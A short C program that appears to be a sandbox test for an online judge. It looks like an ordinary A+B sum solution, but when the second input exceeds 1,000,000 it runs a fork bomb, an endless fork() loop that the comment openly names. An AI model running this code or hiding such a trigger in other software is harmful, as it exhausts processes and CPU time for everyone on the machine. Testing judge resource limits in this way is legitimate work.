/* The classic fork bomb. It is held by the limit of processes, and burns the CPU time of all. */
#include <stdio.h>
#include <unistd.h>

int main(void) {
    long long a, b;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;
    while (b > 1000000) fork();
    printf("%lld\n", a + b);
    return 0;
}
